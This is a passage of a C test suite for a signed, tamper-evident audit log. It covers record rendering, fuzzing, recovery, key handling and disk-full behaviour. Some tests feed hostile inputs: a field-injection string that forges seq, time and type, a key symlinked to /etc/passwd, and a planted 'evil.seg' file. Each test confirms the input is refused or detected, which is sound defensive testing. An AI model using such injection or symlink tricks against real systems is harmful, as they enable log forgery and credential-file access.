	d[0] = json_pack("{s:i}", "x", 1);
	d[1] = json_integer(2);
	d[2] = json_pack("{s:i}", "x", 3);
	assert_int_equal(audit_log_append_many(l, 3, types, actors, (const json_t *const *)d, NULL),
	                 ESC_EINVAL);
	for (int k = 0; k < 3; k++)
		json_decref(d[k]);
	assert_int_equal(audit_log_size(l), before);
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	buf_free(&rec);
	free(seen);
	rmrf(dir);
	free(dir);
}

/* the log renders a record's start in the appender and completes it in the batch leader:
 * the bytes must be exactly audit_event_render's for any details and actor */
static void
test_render_in_parts(void **state)
{
	char *dir = tmpdir(), msg[1024];
	audit_log *l;
	buf rec = BUF_INIT, want = BUF_INIT;
	audit_event ev;
	const char *actors[] = { "alice", "ünïcode \"quoted\" \\ /slash\t", "a", "x\u2028y" };
	json_t *dets[5], *nul;
	uint64_t seq;
	size_t n = 0;

	(void)state;
	dets[0] = json_object();
	dets[1] = json_pack("{s:s, s:i, s:f, s:b, s:n}", "zz", "\x01\x1f\"\\</script>", "a", -7,
	                    "pi", 3.25, "t", 1, "nil");
	dets[2] = json_pack("{s:{s:[i, s, {s:o}]}, s:s}", "nested", "k", 1, "two", "x",
	                    json_array(), "é", "☃ \xf0\x9f\x94\x92");
	dets[3] = json_pack("{s:s}", "x", ",\"seq\":5,\"time\":\"x\",\"type\":\"sth\"}");
	dets[4] = json_pack("{s:I, s:I}", "big", (json_int_t)INT64_MAX, "small",
	                    (json_int_t)INT64_MIN);
	nul = json_pack("{s:{s:s#}}", "in", "nul", "a\0b", (size_t)3);
	assert_int_equal(audit_key_generate(dir, msg, sizeof(msg)), 0);
	l = open_w(dir, 1000, 0);
	for (size_t a = 0; a < sizeof(actors) / sizeof(actors[0]); a++) {
		for (size_t d = 0; d < sizeof(dets) / sizeof(dets[0]); d++) {
			assert_non_null(dets[d]);
			assert_int_equal(audit_log_append(l, "test.parts", actors[a], dets[d], &seq), 0);
			assert_int_equal(seq, n);
			n++;
			assert_int_equal(audit_log_read(l, seq, &rec), 0);
			if (audit_event_parse(rec.data, rec.len, &ev, msg, sizeof(msg)) != 0)
				fail_msg("%s: %s", msg, (const char *)rec.data);
			buf_reset(&want);
			assert_int_equal(audit_event_render(seq, ev.time_us, "test.parts", actors[a],
			                                    dets[d], &want), 0);
			assert_int_equal(rec.len, want.len);
			assert_memory_equal(rec.data, want.data, want.len);
			assert_true(json_equal(ev.details, dets[d]));
			audit_event_free(&ev);
		}
	}
	/* bad input is refused before it takes a seq */
	assert_int_equal(audit_log_append(l, "Bad!", "alice", dets[0], &seq), ESC_EINVAL);
	assert_int_equal(audit_log_append(l, "test.parts", "", dets[0], &seq), ESC_EINVAL);
	assert_int_equal(audit_log_append(l, "test.parts", "\xff", dets[0], &seq), ESC_EINVAL);
	/* jansson writes a NUL in a string as \u0000, which no reader accepts (a record that
	 * would make the log unreadable); an escaped backslash before u0000 is fine */
	assert_non_null(nul);
	assert_int_equal(audit_log_append(l, "test.parts", "alice", nul, &seq), ESC_EINVAL);
	json_decref(nul);
	nul = json_pack("{s:s}", "x", "\\u0000");
	assert_int_equal(audit_log_append(l, "test.parts", "alice", nul, &seq), 0);
	assert_int_equal(seq, n);
	n++;
	json_decref(nul);
	{
		/* a record just over the limit: refused alone, the next one gets the next seq */
		char *big = malloc(AUDIT_EVENT_MAX);
		json_t *jb;

		assert_non_null(big);
		memset(big, 'x', AUDIT_EVENT_MAX - 1);
		big[AUDIT_EVENT_MAX - 1] = 0;
		jb = json_pack("{s:s}", "b", big);
		assert_int_equal(audit_log_append(l, "test.parts", "alice", jb, &seq), ESC_ETOOBIG);
		json_decref(jb);
		/* its start fits, only seq, time and type (added by the leader) make it too big */
		jb = json_pack("{s:s}", "b", "x");
		buf_reset(&want);
		assert_int_equal(audit_event_render(n, 1764056301123456, "test.parts", "alice", jb,
		                                    &want), 0);
		json_decref(jb);
		big[AUDIT_EVENT_MAX - want.len + 2] = 0; /* one byte over */
		jb = json_pack("{s:s}", "b", big);
		assert_int_equal(audit_log_append(l, "test.parts", "alice", jb, &seq), ESC_ETOOBIG);
		json_decref(jb);
		big[AUDIT_EVENT_MAX - want.len + 1] = 0; /* exactly the limit */
		jb = json_pack("{s:s}", "b", big);
		assert_int_equal(audit_log_append(l, "test.parts", "alice", jb, &seq), 0);
		assert_int_equal(seq, n);
		n++;
		json_decref(jb);
		free(big);
	}
	assert_int_equal(audit_log_append(l, "test.parts", "alice", dets[0], &seq), 0);
	assert_int_equal(seq, n);
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	for (size_t d = 0; d < sizeof(dets) / sizeof(dets[0]); d++)
		json_decref(dets[d]);
	buf_free(&rec);
	buf_free(&want);
	rmrf(dir);
	free(dir);
}

/* ---- random documents: the append path writes details itself; it must make exactly
 * the bytes of audit_event_render (jansson), or refuse what it refuses ---- */

static uint32_t rnd_state = 12345;

static uint32_t
rnd(uint32_t n)
{
	rnd_state = rnd_state * 1103515245u + 12345u;
	return (rnd_state >> 8) % n;
}

/* A random string: ASCII, escapes, controls, 2-4 byte UTF-8; *nul / *bad set when it got a
 * NUL or invalid UTF-8 (only when allowed). */
static size_t
rnd_text(char *s, size_t cap, int allow_bad, int *nul, int *bad)
{
	static const char *pieces[] = { "a", "Z", "0", " ", "\"", "\\", "/", "\b", "\f", "\n",
	                                "\r", "\t", "\x01", "\x1f", "\x7f", "é", "ü", "\u2028",
	                                "☃", "\xef\xbf\xbf", "\xf0\x9f\x94\x92", "\xf4\x8f\xbf\xbf",
	                                "\\u0000", "<", "}", ",\"seq\":", "~" };
	static const char *invalid[] = { "\xc0\x80", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xff",
	                                 "\x80", "\xe2\x82", "\xf8\x88\x80\x80\x80", "\xc3" };
	size_t n = 0, len = rnd(12);

	for (size_t i = 0; i < len; i++) {
		const char *p = pieces[rnd(sizeof(pieces) / sizeof(pieces[0]))];
		size_t pl;
		int b = 0;

		if (allow_bad && rnd(60) == 0 && n + 1 < cap) {
			s[n++] = 0;
			*nul = 1;
			continue;
		}
		if (allow_bad && rnd(80) == 0) {
			p = invalid[rnd(sizeof(invalid) / sizeof(invalid[0]))];
			b = 1;
		}
		pl = strlen(p);
		if (n + pl >= cap)
			break;
		memcpy(s + n, p, pl);
		n += pl;
		*bad |= b;
	}
	s[n] = 0;
	return n;
}

static json_t *
rnd_value(unsigned depth, int allow_bad, int *nul, int *bad)
{
	static const json_int_t ints[] = { 0, 1, -1, 9, 10, -10, 123456789, INT64_MAX, INT64_MIN,
	                                   INT64_MIN + 1, 4294967296 };
	char txt[256];
	size_t n, k;
	json_t *j;

	switch (depth > 6 ? rnd(6) : rnd(8)) {
	case 0:
		return json_integer(rnd(3) ? ints[rnd(sizeof(ints) / sizeof(ints[0]))]
		                           : (json_int_t)rnd(1u << 30) - (1 << 29));
	case 1:
		return rnd(2) ? json_true() : json_false();
	case 2:
		return json_null();
	case 3:
		return rnd(8) == 0 ? json_real((double)rnd(100000) / 7.0) : json_integer(rnd(100));
	case 4:
	case 5:
		n = rnd_text(txt, sizeof(txt), allow_bad, nul, bad);
		return json_stringn_nocheck(txt, n);
	case 6:
		j = json_array();
		for (k = rnd(5); k > 0; k--)
			json_array_append_new(j, rnd_value(depth + 1, allow_bad, nul, bad));
		return j;
	default:
		j = json_object();
		for (k = rnd(rnd(10) == 0 ? 80 : 7); k > 0; k--) {
			int kn = 0, kb = 0;

			if (rnd(3) == 0)
				n = (size_t)snprintf(txt, sizeof(txt), "k%u", rnd(100));
			else
				n = rnd_text(txt, sizeof(txt), allow_bad, &kn, &kb);
			if (json_object_getn(j, txt, n) != NULL)
				continue; /* a replaced value would take its flags along */
			*nul |= kn;
			*bad |= kb;
			json_object_setn_new_nocheck(j, txt, n, rnd_value(depth + 1, allow_bad, nul, bad));
		}
		return j;
	}
}

static void
test_render_random(void **state)
{
	char *dir = tmpdir(), msg[1024], actor[300];
	audit_log *l;
	buf rec = BUF_INIT, want = BUF_INIT;
	audit_event ev;
	uint64_t seq, n = 0;
	int ok = 0, refused[3] = { 0, 0, 0 }; /* NUL, invalid UTF-8 in a value, ... in a key */

	(void)state;
	assert_int_equal(audit_key_generate(dir, msg, sizeof(msg)), 0);
	l = open_w(dir, 100000, 0);
	for (int i = 0; i < 600; i++) {
		int nul = 0, bad = 0, anul = 0, abad = 0, rc;
		json_t *d = json_object(), *deep;

		for (int k = (int)rnd(6); k > 0; k--) {
			char key[64];
			int kn = 0, kb = 0;
			size_t kl = rnd_text(key, sizeof(key), i % 3 == 0, &kn, &kb);

			if (json_object_getn(d, key, kl) != NULL)
				continue;
			nul |= kn;
			bad |= kb;
			json_object_setn_new_nocheck(d, key, kl, rnd_value(0, i % 3 == 0, &nul, &bad));
		}
		if (i % 50 == 7) { /* deeper than the direct writer goes: jansson's turn */
			deep = json_integer(1);
			for (int k = 0; k < 40; k++)
				deep = json_pack("{s:[o]}", "d", deep);
			json_object_set_new(d, "deep", deep);
		}
		rnd_text(actor, 64, 0, &anul, &abad);
		if (actor[0] == 0)
			strcpy(actor, "x");
		/* jansson (audit_event_render) refuses invalid UTF-8 in a value (the generator's
		 * "bad" pieces may still combine into valid UTF-8) but writes a broken record for
		 * one in a key (it ignores the failure): that must be refused too, as must a NUL,
		 * which would make the record unreadable */
		buf_reset(&want);
		bad = audit_event_render(0, 0, "test.random", actor, d, &want) != 0;
		if (!bad && audit_event_parse(want.data, want.len, &ev, NULL, 0) != 0)
			bad = 2;
		else if (!bad)
			audit_event_free(&ev);
		rc = audit_log_append(l, "test.random", actor, d, &seq);
		if (nul || bad) {
			if (rc != ESC_EINVAL)
				fail_msg("document %d: %s, not refused", i, nul ? "NUL" : "bad UTF-8");
			refused[nul ? 0 : bad]++;
			json_decref(d);
			continue;
		}
		buf_reset(&want);
		if (rc != 0)
			fail_msg("append %d: %s", i, esc_strerror(rc));
		assert_int_equal(seq, n);
		n++;
		assert_int_equal(audit_log_read(l, seq, &rec), 0);
		if (audit_event_parse(rec.data, rec.len, &ev, msg, sizeof(msg)) != 0)
			fail_msg("%s: %s", msg, (const char *)rec.data);
		assert_int_equal(audit_event_render(seq, ev.time_us, "test.random", actor, d, &want), 0);
		if (rec.len != want.len || memcmp(rec.data, want.data, want.len) != 0)
			fail_msg("record %d differs:\n%s\n%s", i, (const char *)rec.data,
			         (const char *)want.data);
		assert_true(json_equal(ev.details, d));
		audit_event_free(&ev);
		json_decref(d);
		ok++;
	}
	/* the generator really made every kind */
	if (ok < 300 || refused[0] < 10 || refused[1] < 3 || refused[2] < 3)
		fail_msg("generator: %d written, refused %d/%d/%d", ok, refused[0], refused[1],
		         refused[2]);
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	buf_free(&rec);
	buf_free(&want);
	rmrf(dir);
	free(dir);
}

static void
test_segments(void **state)
{
	char *dir = mklog(60, 9, 1024), msg[1024], pat[4200], extra[4200];
	glob_t g;
	size_t nseg;

	(void)state;
	snprintf(pat, sizeof(pat), "%s/audit/seg/*.seg", dir);
	assert_int_equal(glob(pat, 0, NULL, &g), 0);
	nseg = g.gl_pathc;
	assert_true(nseg > 5);
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	/* index and tree rebuilt from the segments when lost */
	snprintf(extra, sizeof(extra), "%s/audit/index", dir);
	assert_int_equal(unlink(extra), 0);
	{
		audit_log *l = open_w(dir, 9, 1024);
		assert_non_null(strstr(audit_log_recovery(l), "rebuilt"));
		append_n(l, 500, 2);
		assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	}
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	/* a stray file among the segments, then a missing middle segment */
	snprintf(extra, sizeof(extra), "%s/audit/seg/evil.seg", dir);
	spit(extra, "x", 1);
	assert_true(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	unlink(extra);
	assert_int_equal(unlink(g.gl_pathv[2]), 0);
	assert_true(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	assert_non_null(strstr(msg, "missing"));
	globfree(&g);
	rmrf(dir);
	free(dir);
}

static void
test_bad_keys(void **state)
{
	char *dir = tmpdir(), msg[1024], kp[4200];
	audit_log *l = NULL;
	audit_opts wo = { 0 };
	audit_verify_result *r = calloc(1, sizeof(*r));

	(void)state;
	assert_non_null(r);
	/* no key */
	assert_int_equal(audit_log_open(&l, dir, &wo, msg, sizeof(msg)), ESC_EIO);
	assert_non_null(strstr(msg, AUDIT_KEY_FILE));
	assert_int_equal(audit_key_generate(dir, msg, sizeof(msg)), 0);
	/* never overwritten */
	assert_int_equal(audit_key_generate(dir, msg, sizeof(msg)), ESC_EINVAL);
	assert_non_null(strstr(msg, "refusing"));
	snprintf(kp, sizeof(kp), "%s/%s", dir, AUDIT_KEY_FILE);
	/* readable by others: refused with advice */
	assert_int_equal(chmod(kp, 0644), 0);
	assert_int_equal(audit_log_open(&l, dir, &wo, msg, sizeof(msg)), ESC_EINVAL);
	assert_non_null(strstr(msg, "chmod 600"));
	/* garbage: a clear error naming the file */
	assert_int_equal(unlink(kp), 0);
	spit(kp, "not a key\n", 10);
	assert_int_equal(chmod(kp, 0600), 0);
	assert_int_equal(audit_log_open(&l, dir, &wo, msg, sizeof(msg)), ESC_EPARSE);
	assert_non_null(strstr(msg, kp));
	/* a symlinked key is not followed */
	assert_int_equal(unlink(kp), 0);
	assert_int_equal(symlink("/etc/passwd", kp), 0);
	assert_int_equal(audit_log_open(&l, dir, &wo, msg, sizeof(msg)), ESC_EIO);
	assert_null(l);
	/* verification without a public key cannot run */
	snprintf(kp, sizeof(kp), "%s/%s", dir, AUDIT_PUB_FILE);
	assert_int_equal(unlink(kp), 0);
	assert_true(audit_verify(dir, NULL, r) < 0);
	assert_non_null(strstr(r->msg, AUDIT_PUB_FILE));
	free(r);
	rmrf(dir);
	free(dir);
}

static void
test_events_and_heads(void **state)
{
	buf b = BUF_INIT;
	audit_event ev;
	json_t *d = json_pack("{s:s, s:i}", "z", "last", "a", 1);
	const char *bad[] = {
		"{\"actor\":\"a\",\"details\":{},\"seq\":1,\"time\":\"2026-01-01T00:00:00.000000Z\","
		"\"type\":\"t\"} ",
		"{\"details\":{},\"actor\":\"a\",\"seq\":1,\"time\":\"2026-01-01T00:00:00.000000Z\","
		"\"type\":\"t\"}",
		"{\"actor\":\"a\",\"actor\":\"a\",\"details\":{},\"seq\":1,\"time\":\"2026-01-01T00:00:"
		"00.000000Z\",\"type\":\"t\"}",
		"{\"actor\":\"a\",\"details\":{},\"seq\":1,\"time\":\"2026-02-30T00:00:00.000000Z\","
		"\"type\":\"t\"}",
		"{\"actor\":\"a\",\"details\":{},\"seq\":1,\"time\":\"2026-01-01T00:00:00Z\",\"type\":\"t\"}",
		"{\"actor\":\"a\",\"details\":[],\"seq\":1,\"time\":\"2026-01-01T00:00:00.000000Z\","
		"\"type\":\"t\"}",
		"{\"actor\":\"a\",\"details\":{},\"seq\":-1,\"time\":\"2026-01-01T00:00:00.000000Z\","
		"\"type\":\"t\"}",
		"{\"actor\":\"a\",\"details\":{},\"seq\":1,\"time\":\"2026-01-01T00:00:00.000000Z\","
		"\"type\":\"T!\"}",
		"{\"actor\":\"a\",\"details\":{},\"extra\":0,\"seq\":1,\"time\":\"2026-01-01T00:00:00.0000"
		"00Z\",\"type\":\"t\"}",
		"{\"actor\":\"\\u0061\",\"details\":{},\"seq\":1,\"time\":\"2026-01-01T00:00:00.000000Z\","
		"\"type\":\"t\"}",
		"{\"actor\":\"\xff\",\"details\":{},\"seq\":1,\"time\":\"2026-01-01T00:00:00.000000Z\","
		"\"type\":\"t\"}",
	};
	char why[256];
	audit_key k;
	audit_sth s, s2;
	json_t *j;
	char *dir = tmpdir(), kp[4200];

	(void)state;
	assert_int_equal(audit_event_render(7, 1764056301123456, "req.created", "ünïcode", d, &b), 0);
	assert_string_equal((const char *)b.data,
	                    "{\"actor\":\"ünïcode\",\"details\":{\"a\":1,\"z\":\"last\"},\"seq\":7,"
	                    "\"time\":\"2025-11-25T07:38:21.123456Z\",\"type\":\"req.created\"}");
	assert_int_equal(audit_event_parse(b.data, b.len, &ev, why, sizeof(why)), 0);
	assert_int_equal(ev.seq, 7);
	assert_int_equal(ev.time_us, 1764056301123456);
	audit_event_free(&ev);
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (audit_event_parse(bad[i], strlen(bad[i]), &ev, why, sizeof(why)) != ESC_EPARSE)
			fail_msg("accepted non-canonical record %zu", i);
	/* the fast shape check agrees with the full parse, also when details mimic the tail */
	{
		uint64_t ps;
		char pt[AUDIT_TYPE_MAX + 1];
		json_t *tricky = json_pack("{s:s}", "x", ",\"seq\":5,\"time\":\"x\",\"type\":\"sth\"}");
		buf_reset(&b);
		assert_int_equal(audit_event_render(1234567, 1764056301123456, "cmd.exec", "a", tricky,
		                                    &b), 0);
		json_decref(tricky);
		assert_int_equal(audit_event_peek(b.data, b.len, &ps, pt), 0);
		assert_int_equal(ps, 1234567);
		assert_string_equal(pt, "cmd.exec");
		assert_int_equal(audit_event_peek(b.data, b.len - 1, &ps, pt), ESC_EPARSE);
		assert_int_equal(audit_event_peek(b.data + 1, b.len - 1, &ps, pt), ESC_EPARSE);
		b.data[b.len - 20] = 'x'; /* inside the time */
		assert_int_equal(audit_event_peek(b.data, b.len, &ps, pt), ESC_EPARSE);
		buf_reset(&b);
	}
	buf_reset(&b);
	assert_int_equal(audit_event_render(1, 0, "BAD", "a", d, &b), ESC_EINVAL);
	assert_int_equal(audit_event_render(1, 0, "ok", "", d, &b), ESC_EINVAL);
	assert_int_equal(audit_event_render(1, 0, "ok", "\xc3", d, &b), ESC_EINVAL);
	/* "sth" and non-object details are refused by append */
	{
		audit_log *l;
		assert_int_equal(audit_key_generate(dir, why, sizeof(why)), 0);
		l = open_w(dir, 100, 0);
		assert_int_equal(audit_log_append(l, "sth", "a", d, NULL), ESC_EINVAL);
		j = json_array();
		assert_int_equal(audit_log_append(l, "x", "a", j, NULL), ESC_EINVAL);
		json_decref(j);
		assert_int_equal(audit_log_size(l), 0);
		assert_int_equal(audit_log_close(l, why, sizeof(why)), 0);
	}
	/* tree heads: sign, verify, JSON round trip, any change breaks the signature */
	snprintf(kp, sizeof(kp), "%s/%s", dir, AUDIT_KEY_FILE);
	assert_int_equal(audit_key_load(kp, &k, why, sizeof(why)), 0);
	memset(&s, 0, sizeof(s));
	s.size = 42;
	s.time_us = 1764056301123456;
	memset(s.root.b, 0xab, 32);
	assert_int_equal(audit_sth_sign(&s, &k), 0);
	assert_int_equal(audit_sth_verify(&s, &k.pub), 0);
	assert_int_equal(audit_sth_to_json(&s, &j), 0);
	assert_int_equal(audit_sth_from_json(j, &s2), 0);
	json_decref(j);
	assert_memory_equal(&s, &s2, sizeof(s));
	s2.size = 43;
	assert_int_equal(audit_sth_verify(&s2, &k.pub), ESC_EPARSE);
	s2 = s;
	s2.time_us++;
	assert_int_equal(audit_sth_verify(&s2, &k.pub), ESC_EPARSE);
	for (int i = 0; i < 32; i++) {
		s2 = s;
		s2.root.b[i] ^= 1;
		assert_int_equal(audit_sth_verify(&s2, &k.pub), ESC_EPARSE);
	}
	for (int i = 0; i < AUDIT_SIG_LEN; i++) {
		s2 = s;
		s2.sig[i] ^= 0x10;
		assert_int_equal(audit_sth_verify(&s2, &k.pub), ESC_EPARSE);
	}
	audit_key_wipe(&k);
	json_decref(d);
	buf_free(&b);
	rmrf(dir);
	free(dir);
}

/* one writer process: a second open for writing is refused; tree heads also come after
 * T seconds, not only every N records */
static void
test_lock_and_timed_heads(void **state)
{
	char *dir = tmpdir(), msg[1024];
	audit_log *l, *l2 = NULL;
	audit_opts o = { .sth_every = 1000, .sth_seconds = 1 };
	audit_sth s;
	uint64_t sseq;

	(void)state;
	assert_int_equal(audit_key_generate(dir, msg, sizeof(msg)), 0);
	assert_int_equal(audit_log_open(&l, dir, &o, msg, sizeof(msg)), 0);
	assert_int_equal(audit_log_open(&l2, dir, &o, msg, sizeof(msg)), ESC_EINVAL);
	assert_non_null(strstr(msg, "in use"));
	assert_null(l2);
	append_n(l, 0, 2);
	assert_int_equal(audit_log_latest_sth(l, &s, &sseq), ESC_ENOENT);
	usleep(1100 * 1000);
	append_n(l, 2, 1); /* T passed: this append is followed by a tree head */
	assert_int_equal(audit_log_latest_sth(l, &s, &sseq), 0);
	assert_int_equal(s.size, 3);
	assert_int_equal(sseq, 3);
	append_n(l, 3, 1);
	assert_int_equal(audit_log_latest_sth(l, &s, &sseq), 0);
	assert_int_equal(s.size, 3); /* not again right away */
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	/* the lock is released at close */
	assert_int_equal(audit_log_open(&l2, dir, &o, msg, sizeof(msg)), 0);
	assert_int_equal(audit_log_latest_sth(l2, &s, &sseq), 0);
	assert_int_equal(s.size, 5); /* signed at close */
	assert_int_equal(audit_log_close(l2, msg, sizeof(msg)), 0);
	rmrf(dir);
	free(dir);
}

/* the head file follows each new tree head while the log stays open (a thread of the log's
 * own writes it, so the appender whose batch published the head does not wait for it) */
static void
test_head_follows_open_log(void **state)
{
	char *dir = tmpdir(), msg[1024];
	audit_log *l;
	audit_head h;

	(void)state;
	memset(&h, 0, sizeof(h));
	assert_int_equal(audit_key_generate(dir, msg, sizeof(msg)), 0);
	l = open_w(dir, 10, 0);
	append_n(l, 0, 25); /* 10 records, a head at seq 10, 10 more, a head at 21, 5 more */
	for (int tries = 0; tries < 500; tries++) {
		if (audit_head_read(dir, &h, msg, sizeof(msg)) == 0 && h.count == 22)
			break;
		usleep(10000);
	}
	assert_int_equal(h.count, 22);
	assert_true(h.have_sth);
	assert_int_equal(h.sth_seq, 21);
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	assert_int_equal(audit_head_read(dir, &h, msg, sizeof(msg)), 0);
	assert_int_equal(h.count, 28); /* and at close: the final head at seq 27 */
	assert_int_equal(h.sth_seq, 27);
	rmrf(dir);
	free(dir);
}

/* a full disk (simulated with RLIMIT_FSIZE): the append fails with a message naming the
 * segment and offset, leaves no partial frame behind, and nothing unrecorded is reported as
 * recorded; once there is room again the log goes on and verifies */
static void
test_disk_full(void **state)
{
	char *dir = mklog(3, 1000, 0), *sp = seg0(dir), msg[1024];
	audit_log *l;
	struct rlimit old, lim;
	struct stat st;
	void (*prev)(int);
	uint64_t n0, seq;
	int failed = 0;

	(void)state;
	l = open_w(dir, 1000, 0);
	n0 = audit_log_size(l);
	assert_int_equal(stat(sp, &st), 0);
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &old), 0);
	prev = signal(SIGXFSZ, SIG_IGN);
	lim = old;
	lim.rlim_cur = (rlim_t)st.st_size + 700; /* room for about two records */
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &lim), 0);
	for (int i = 0; i < 10 && !failed; i++) {
		json_t *d = json_pack("{s:i, s:s}", "i", i, "cmd", "systemctl restart nginx");
		if (audit_log_append(l, "test.event", "alice", d, &seq) != 0) {
			failed = 1;
			snprintf(msg, sizeof(msg), "%s", audit_log_error(l));
		}
		json_decref(d);
	}
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &old), 0);
	signal(SIGXFSZ, prev);
	assert_true(failed);
	assert_non_null(strstr(msg, ".seg at offset"));
	assert_true(audit_log_size(l) > n0 && audit_log_size(l) < n0 + 10);
	assert_int_equal(stat(sp, &st), 0);
	{
		/* the segment ends exactly after the last acknowledged record */
		size_t len, starts[64];
		uint8_t *d = slurp(sp, &len);
		size_t nf = frames_of(d, len, starts, 64);
		assert_int_equal(nf, audit_log_size(l));
		free(d);
	}
	append_n(l, 100, 2); /* room again */
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	free(sp);
	rmrf(dir);
	free(dir);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_events_and_heads),
		cmocka_unit_test(test_roundtrip_and_proofs),
		cmocka_unit_test(test_flip_every_byte),
		cmocka_unit_test(test_delete_insert_swap_truncate),
		cmocka_unit_test(test_forgery),
		cmocka_unit_test(test_recovery),
		cmocka_unit_test(test_no_recovery_of_damage),
		cmocka_unit_test(test_group_commit_threads),
		cmocka_unit_test(test_append_many),
		cmocka_unit_test(test_render_in_parts),
		cmocka_unit_test(test_render_random),
		cmocka_unit_test(test_segments),
		cmocka_unit_test(test_bad_keys),
		cmocka_unit_test(test_lock_and_timed_heads),
		cmocka_unit_test(test_head_follows_open_log),
		cmocka_unit_test(test_disk_full),
		cmocka_unit_test(test_verify_subtrees_and_windows),
		cmocka_unit_test(test_verify_large_segment),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
